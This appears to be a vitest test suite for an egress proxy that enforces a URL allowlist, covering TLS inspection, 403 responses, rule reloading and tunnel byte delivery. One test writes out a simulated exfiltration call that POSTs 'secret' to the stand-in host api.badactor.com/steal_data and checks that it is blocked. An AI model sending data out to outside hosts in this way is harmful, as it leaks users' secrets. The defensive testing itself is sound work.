import { createHash, randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startEgressHarness, toPlain } from "../testing/egress-harness";
import { readSlowly } from "../testing/read-slowly";
import type { ResolveOverride } from "./egress-context";

// The article's allowlist, fixed for the real Slack API (slack.com/api/*), plus a deny rule.
const FLOWS = `
AllowFilter:
  processor: Filter
  parameters:
    - key: urls
      value:
        - slack.com/api/*
        - "*.googleapis.com/*"
GenerateResponseForbidden:
  processor: GenerateResponse
  parameters:
    - key: status
      value: 403
    - key: body
      value: "Forbidden Access"
    - key: Content-Type
      value: text/plain
`;

describe("egress proxy (real proxy, real TLS, local stand-in upstreams)", () => {
  let harness: Awaited<ReturnType<typeof startEgressHarness>>;

  beforeAll(async () => {
    harness = await startEgressHarness({ flowsYaml: FLOWS });
  });
  afterAll(async () => {
    await harness.close();
  });

  it("lets an allowed HTTPS call through with TLS inspection and verification on both sides", async () => {
    const response = await harness.fetch("https://slack.com/api/chat.postMessage", {
      method: "POST",
      body: "{}",
    });
    expect(response.status).toBe(200);
    expect(JSON.parse(response.text)).toMatchObject({
      standIn: true,
      scheme: "https",
      path: "/api/chat.postMessage",
    });
    const event = harness.events.at(-1);
    expect(event).toMatchObject({
      type: "http_call",
      server: "slack",
      method: "POST",
      host: "slack.com",
      path: "/api/chat.postMessage",
      status: 200,
      decision: "allowed",
      rule: "org:AllowFilter#0",
      inspected: true,
    });
  });

  it("answers a call to an unlisted host with the generated 403, without DNS or a connection", async () => {
    const before = harness.upstream.requests.length;
    const attempts = harness.dialer.attempts.length;
    const response = await harness.fetch("https://api.badactor.com/steal_data", {
      method: "POST",
      body: "secret",
    });
    expect(response.status).toBe(403);
    expect(response.text).toBe("Forbidden Access");
    expect(response.headers["content-type"]).toBe("text/plain");
    expect(harness.upstream.requests.length).toBe(before);
    expect(harness.dialer.attempts.length).toBe(attempts);
    expect(harness.events.at(-1)).toMatchObject({
      host: "api.badactor.com",
      decision: "blocked",
      rule: "org:AllowFilter",
      status: 403,
    });
  });

  it("dials an allowed call's upstream through the dialer, to the address that was checked", async () => {
    // Allowed by *.googleapis.com, sent by the operator's mapping to an address off loopback:
    // the connection must go through the (refusing) test dialer, never straight to the network.
    (harness.context.resolveOverrides as Map<string, { address: string; port: number }>).set(
      "elsewhere.googleapis.com:443",
      { address: "192.0.2.10", port: 443 },
    );
    const response = await harness.fetch("https://elsewhere.googleapis.com/v1/x");
    expect(response.status).toBe(502);
    expect(harness.dialer.attempts).toContain("connect 192.0.2.10:443");
    expect(harness.events.at(-1)).toMatchObject({
      host: "elsewhere.googleapis.com",
      decision: "allowed",
      status: null,
    });
    expect(harness.events.at(-1)?.type === "http_call" && harness.events.at(-1)).toMatchObject({
      networkError: expect.stringContaining("tests never leave loopback"),
    });
  });

  it("blocks the article's api.slack.com too: the real Slack API is slack.com/api", async () => {
    expect((await harness.fetch("https://api.slack.com/methods")).status).toBe(403);
  });

  it("decides plain HTTP the same way", async () => {
    expect(
      (
        await harness.fetch(
          "http://maps.googleapis.com/maps/api/geocode/json?key=AIzaSecretKey123456789",
        )
      ).status,
    ).toBe(200);
    expect(harness.events.at(-1)).toMatchObject({
      scheme: "http",
      host: "maps.googleapis.com",
      path: "/maps/api/geocode/json?key=[redacted]",
      decision: "allowed",
    });
    expect((await harness.fetch("http://example.org/")).status).toBe(403);
  });

  it("applies new flows to the very next call", async () => {
    expect((await harness.fetch("https://example.org/ok")).status).toBe(403);
    harness.flows.apply(
      2,
      toPlain(
        `${FLOWS}\nAllowMore:\n  processor: Filter\n  parameters:\n    - key: urls\n      value: [example.org/*]\n`,
      ),
      "gateway",
    );
    expect((await harness.fetch("https://example.org/ok")).status).toBe(200);
  });

  it("closes a tunnel opened under the old flows when the flows change", async () => {
    (harness.context.noInspect as Set<string>).add("*");
    const { connect } = await import("node:net");
    const socket = connect(harness.proxy.port, "127.0.0.1");
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    socket.write("CONNECT slack.com:443 HTTP/1.1\r\nHost: slack.com:443\r\n\r\n");
    await new Promise<void>((resolve) => socket.once("data", () => resolve()));
    harness.flows.apply(3, toPlain(FLOWS), "gateway");
    await closed;
    (harness.context.noInspect as Set<string>).delete("*");
  });

  it("delivers every byte of a blind tunnel whose upstream closes right after sending", async () => {
    const { connect, createServer } = await import("node:net");
    const size = 16 * 1024 * 1024;
    // An upstream that sends a large body and closes at once (a download's last bytes may still
    // be in the proxy's queue to the client when the upstream's close arrives).
    // Random bytes: a read buffer reused while a write still needs it would show as a mismatch.
    const body = randomBytes(size);
    const bulk = createServer((socket) => socket.end(body));
    await new Promise<void>((resolve) => bulk.listen(0, "127.0.0.1", resolve));
    const port = (bulk.address() as import("node:net").AddressInfo).port;
    const overrides = harness.context.resolveOverrides as Map<string, ResolveOverride>;
    overrides.set("bulk.googleapis.com:443", { address: "127.0.0.1", port });
    (harness.context.noInspect as Set<string>).add("*");
    try {
      const socket = connect(harness.proxy.port, "127.0.0.1");
      socket.write(
        "CONNECT bulk.googleapis.com:443 HTTP/1.1\r\nHost: bulk.googleapis.com:443\r\n\r\n",
      );
      // A slow reader: the proxy's writes to it back up and are often only partly taken, while
      // the upstream keeps sending.
      const received = await readSlowly(socket);
      const established = "HTTP/1.1 200 Connection Established\r\n\r\n".length;
      expect(received.length - established).toBe(size);
      // Compared by digest: a 16 MiB diff would drown the report.
      expect(digest(received.subarray(established))).toBe(digest(body));
      await expect
        .poll(() => harness.events.at(-1))
        .toMatchObject({
          method: "CONNECT",
          host: "bulk.googleapis.com",
          bytesIn: size,
          decision: "allowed",
        });
    } finally {
      (harness.context.noInspect as Set<string>).delete("*");
      overrides.delete("bulk.googleapis.com:443");
      bulk.close();
    }
  });
});

function digest(bytes: Buffer): string {
  return createHash("sha256").update(bytes).digest("hex");
}
